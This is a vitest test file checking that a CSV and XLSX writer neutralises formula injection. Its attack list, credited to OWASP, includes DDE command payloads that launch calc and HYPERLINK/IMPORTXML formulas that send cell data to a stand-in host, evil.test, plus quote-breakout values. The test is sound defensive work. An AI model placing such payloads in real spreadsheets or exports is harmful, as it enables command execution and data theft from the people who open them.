import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { streamXlsxRows } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { testFolder } from '../../testing/files.ts';
import { csvLine } from './csv-writer.ts';
import { writeTable } from './table-writer.ts';

/** @source OWASP, CSV Injection: the signs that it lists, and attacks that are known to have worked. */
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?x="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://evil.test/?v=",A1),"//a")',
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  '";=1+2',
  'a","=1+2',
];
const harmless = ['-12.5', '+86', '产改', 'a=b', "'=1", ''];

const runs = (cell: string) => /^[=+\-@＝＋－＠\t\r\n]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe('what leaves as a table', () => {
  it('as CSV starts no formula in any cell, and no cell breaks out of its place', () => {
    const rows = [attacks, [...attacks].reverse(), harmless];
    const read: string[][] = parse(rows.map(csvLine).join(''), { relaxColumnCount: true, recordDelimiter: '\r\n' });
    expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length));
    expect(read.flat().filter(runs)).toEqual([]);
    expect(read[2]).toEqual(harmless);
    for (const [i, cell] of (read[0] ?? []).entries()) expect([attacks[i], `'${attacks[i]}`]).toContain(cell);
  });

  it('as a workbook starts no formula, and holds none', async () => {
    const path = join(testFolder(), 'out.xlsx');
    await writeTable(
      path,
      '表',
      ['甲'],
      attacks.map((attack) => [attack]),
    );
    const cells: string[] = [];
    for await (const { values } of streamXlsxRows(new Uint8Array(readFileSync(path)))) cells.push(String(values[0]));
    expect(cells).toHaveLength(attacks.length + 1);
    expect(cells.filter(runs)).toEqual([]);
  });
});
